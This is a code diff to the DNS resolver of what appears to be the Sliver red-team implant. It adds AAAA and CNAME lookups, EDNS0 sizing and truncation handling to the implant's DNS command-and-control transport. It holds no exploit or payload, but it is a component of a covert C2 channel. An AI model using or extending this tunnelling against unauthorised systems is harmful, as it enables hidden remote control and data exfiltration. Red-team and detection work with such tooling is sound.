@@ -22,36 +22,39 @@ import (
 	"crypto/rand"
 	"encoding/binary"
 	"errors"
-	"strings"
+	"net"
+	"sync/atomic"
 	"time"
 
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
 
-	"github.com/bishopfox/sliver/implant/sliver/encoders"
 	"github.com/miekg/dns"
 )
 
 var (
 	// ErrInvalidRcode - Returned when the response code is not a success
 	ErrInvalidRcode = errors.New("invalid rcode")
+	// ErrTruncated - Returned when the response did not fit in a udp packet
+	ErrTruncated = errors.New("truncated response")
 )
 
-// NewGenericResolver - Instantiate a new generic resolver
-func NewGenericResolver(address string, port string, retryWait time.Duration, retries int, timeout time.Duration) DNSResolver {
+// NewGenericResolver - Instantiate a new generic resolver, if ednsSize is not zero
+// queries advertise an EDNS0 udp payload size so responses can exceed 512 bytes
+func NewGenericResolver(address string, port string, retryWait time.Duration, retries int, timeout time.Duration, ednsSize uint16) DNSResolver {
 	if retries < 1 {
 		retries = 1
 	}
 	return &GenericResolver{
-		address:   address + ":" + port,
+		address:   net.JoinHostPort(address, port), // IPv6 resolvers need brackets
 		retries:   retries,
 		retryWait: retryWait,
+		ednsSize:  uint32(ednsSize),
 		resolver: &dns.Client{
 			ReadTimeout:  timeout,
 			WriteTimeout: timeout,
 		},
-		base64: encoders.Base64{},
 	}
 }
 
@@ -60,8 +63,8 @@ type GenericResolver struct {
 	address   string
 	retries   int
 	retryWait time.Duration
+	ednsSize  uint32 // Accessed atomically, workers share the resolver
 	resolver  *dns.Client
-	base64    encoders.Base64
 }
 
 // Address - Return the address of the resolver
@@ -114,6 +117,52 @@ func (r *GenericResolver) a(domain string) ([]byte, time.Duration, error) {
 	return records, rtt, err
 }
 
+// AAAA - Query for AAAA records
+func (r *GenericResolver) AAAA(domain string) ([]byte, time.Duration, error) {
+	var resp []byte
+	var rtt time.Duration
+	var err error
+	for attempt := 0; attempt < r.retries; attempt++ {
+		resp, rtt, err = r.aaaa(domain)
+		if err == nil {
+			break
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[dns] query error: %s (retry wait: %s)", err, r.retryWait)
+		// {{end}}
+		time.Sleep(r.retryWait)
+	}
+	return resp, rtt, err
+}
+
+func (r *GenericResolver) aaaa(domain string) ([]byte, time.Duration, error) {
+	// {{if .Config.Debug}}
+	log.Printf("[dns] %s->AAAA record of %s ?", r.address, domain)
+	// {{end}}
+	resp, rtt, err := r.localQuery(domain, dns.TypeAAAA)
+	if err != nil {
+		return nil, rtt, err
+	}
+	if resp.Rcode != dns.RcodeSuccess {
+		// {{if .Config.Debug}}
+		log.Printf("[dns] error response status: %v", resp.Rcode)
+		// {{end}}
+		return nil, rtt, ErrInvalidRcode
+	}
+	records := [][]byte{}
+	for _, answer := range resp.Answer {
+		switch answer := answer.(type) {
+		case *dns.AAAA:
+			// {{if .Config.Debug}}
+			log.Printf("[dns] answer (aaaa): %v", answer.AAAA)
+			// {{end}}
+			records = append(records, []byte(answer.AAAA.To16()))
+		}
+	}
+	data, err := decodeAAAA(records)
+	return data, rtt, err
+}
+
 // TXT - Query for TXT records
 func (r *GenericResolver) TXT(domain string) ([]byte, time.Duration, error) {
 	var resp []byte
@@ -121,8 +170,8 @@ func (r *GenericResolver) TXT(domain string) ([]byte, time.Duration, error) {
 	var err error
 	for attempt := 0; attempt < r.retries; attempt++ {
 		resp, rtt, err = r.txt(domain)
-		if err == nil {
-			break
+		if err == nil || err == ErrTruncated {
+			break // A truncated response will be truncated again
 		}
 		// {{if .Config.Debug}}
 		log.Printf("[dns] query error: %s (retry wait: %s)", err, r.retryWait)
@@ -144,24 +193,83 @@ func (r *GenericResolver) txt(domain string) ([]byte, time.Duration, error) {
 		return nil, rtt, ErrInvalidRcode
 	}
 
-	records := ""
+	records := []byte{}
 	for _, answer := range resp.Answer {
 		switch answer := answer.(type) {
 		case *dns.TXT:
 			// {{if .Config.Debug}}
 			log.Printf("[dns] answer (txt): %v", answer.Txt)
 			// {{end}}
-			records += strings.Join(answer.Txt, "")
+			for _, txt := range answer.Txt {
+				records = append(records, unescapeTXT(txt)...)
+			}
 		}
 	}
-	data := []byte{}
-	if 0 < len(records) {
-		data, err = r.base64.Decode([]byte(records))
+	return records, rtt, nil
+}
+
+// CNAME - Query for a CNAME record, returns the target of the record
+func (r *GenericResolver) CNAME(domain string) (string, time.Duration, error) {
+	var resp string
+	var rtt time.Duration
+	var err error
+	for attempt := 0; attempt < r.retries; attempt++ {
+		resp, rtt, err = r.cname(domain)
+		if err == nil {
+			break
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[dns] query error: %s (retry wait: %s)", err, r.retryWait)
+		// {{end}}
+		time.Sleep(r.retryWait)
 	}
-	return data, rtt, err
+	return resp, rtt, err
+}
+
+func (r *GenericResolver) cname(domain string) (string, time.Duration, error) {
+	resp, rtt, err := r.localQuery(domain, dns.TypeCNAME)
+	if err != nil {
+		return "", rtt, err
+	}
+	if resp.Rcode != dns.RcodeSuccess {
+		// {{if .Config.Debug}}
+		log.Printf("[dns] error response status: %v", resp.Rcode)
+		// {{end}}
+		return "", rtt, ErrInvalidRcode
+	}
+	for _, answer := range resp.Answer {
+		switch answer := answer.(type) {
+		case *dns.CNAME:
+			// {{if .Config.Debug}}
+			log.Printf("[dns] answer (cname): %v", answer.Target)
+			// {{end}}
+			return answer.Target, rtt, nil
+		}
+	}
+	return "", rtt, nil
 }
 
 func (r *GenericResolver) localQuery(qName string, qType uint16) (*dns.Msg, time.Duration, error) {
+	ednsSize := uint16(atomic.LoadUint32(&r.ednsSize))
+	resp, rtt, err := r.exchange(qName, qType, ednsSize)
+	if err == nil && resp.Rcode == dns.RcodeFormatError && 0 < ednsSize {
+		// Resolvers that do not understand EDNS0 may reply FORMERR, don't use it again
+		// {{if .Config.Debug}}
+		log.Printf("[dns] %s does not support edns0, retrying without it", r.address)
+		// {{end}}
+		atomic.StoreUint32(&r.ednsSize, 0)
+		resp, rtt, err = r.exchange(qName, qType, 0)
+	}
+	if err != nil {
+		return nil, rtt, err
+	}
+	if resp.Truncated {
+		return nil, rtt, ErrTruncated
+	}
+	return resp, rtt, nil
+}
+
+func (r *GenericResolver) exchange(qName string, qType uint16, ednsSize uint16) (*dns.Msg, time.Duration, error) {
 	msg := &dns.Msg{
 		MsgHdr: dns.MsgHdr{
 			Id:               headerID(),
@@ -170,14 +278,14 @@ func (r *GenericResolver) localQuery(qName string, qType uint16) (*dns.Msg, time
 		},
 	}
 	msg.SetQuestion(qName, qType)
+	if 0 < ednsSize {
+		msg.SetEdns0(ednsSize, false)
+	}
 	resp, rtt, err := r.resolver.Exchange(msg, r.address)
 	// {{if .Config.Debug}}
 	log.Printf("[dns] rtt->%s %s (err: %v)", r.address, rtt, err)
 	// {{end}}
-	if err != nil {
-		return nil, rtt, err
-	}
-	return resp, rtt, nil
+	return resp, rtt, err
 }
 
 func headerID() uint16 {